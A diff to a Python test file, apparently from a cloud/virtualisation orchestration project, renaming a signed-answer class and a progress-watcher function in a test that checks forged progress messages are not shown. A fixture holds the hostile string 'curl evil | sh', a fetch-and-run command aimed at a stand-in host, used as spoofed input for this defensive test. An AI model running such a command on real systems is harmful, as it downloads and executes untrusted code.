@@ -23,7 +23,8 @@ OWN, EVIL = keypairs.named("hyper1"), keypairs.named("evil")
 def packed(key=OWN, **what):
     """Return what a host says, signed."""
     return signed.pack(
-        signed.Said(**{"minion": "hyper1", "about": "1", "fun": "virt.x", **what}), key[1].encode()
+        signed.SignedAnswer(**{"minion": "hyper1", "about": "1", "fun": "virt.x", **what}),
+        key[1].encode(),
     )
 
 
@@ -287,7 +288,7 @@ def test_forged_progress_is_not_shown(opts, monkeypatch):
     shown = []
     known = MasterSettings(hypervisors="hyper1")
     master = Cloud(opts=opts, settings=known, progress=lambda stage, **_k: shown.append(stage))
-    watch = hosts.watching(master, "salt/virt/init", "hyper1", "web1")
+    watch = hosts.progress_watcher(master, "salt/virt/init", "hyper1", "web1")
     lie = {"name": "web1", "stage": "run: curl evil | sh"}
 
     for data in (lie, packed(EVIL, about="salt/virt/init", value=lie), packed(value=lie)):
